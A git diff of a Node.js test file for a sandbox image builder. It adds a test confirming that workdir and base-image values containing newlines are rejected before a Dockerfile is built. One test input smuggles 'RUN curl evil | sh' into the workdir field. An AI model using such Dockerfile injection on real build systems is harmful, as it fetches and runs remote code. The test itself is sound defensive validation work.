@@ -9,7 +9,8 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { experimentConfigSchema } from '../../server/src/config/index.js';
 import { defaultSandboxOptions, envOptionsFromConfig } from '../../server/src/launch/index.js';
-import { sandboxLayer } from '../../server/src/sandbox/images/index.js';
+import type Docker from 'dockerode';
+import { buildRecipeImage, sandboxLayer } from '../../server/src/sandbox/images/index.js';
 import { sandboxSpecForTask } from '../../server/src/sandbox/index.js';
 import { taskEntrySchema } from '../../server/src/tasks/index.js';
 import { dockerfileFacts, replaceBaseImages } from '../../server/src/util/dockerfile.js';
@@ -78,4 +79,12 @@ test('the verifier\'s timeout replaces the test timeout, and the task\'s episode
   assert.equal(short.episodeTimeoutMs, 180_000);
   const long = envOptionsFromConfig(experimentConfigSchema.parse({ env: { episode_timeout: 60 } }), harborTask).limits;
   assert.equal(long.episodeTimeoutMs, 60_000);
+});
+
+test('a workdir or base image that would add lines to the Dockerfile is refused before anything is built', async () => {
+  const docker = {} as Docker;
+  const input = { tag: 'graph-planner/harbor-x:latest', task: 'x', dockerfile: '/nowhere/Dockerfile' };
+  await assert.rejects(buildRecipeImage(docker, { ...input, workdir: '/app\nRUN curl evil | sh' }), /workdir "\/app\\nRUN curl evil \| sh" is not an absolute path without control characters/);
+  await assert.rejects(buildRecipeImage(docker, { ...input, workdir: 'app' }), /not an absolute path/);
+  await assert.rejects(buildRecipeImage(docker, { ...input, workdir: '/app', baseImage: 'base\nRUN x' }), /base_image "base\\nRUN x" is not an image reference/);
 });
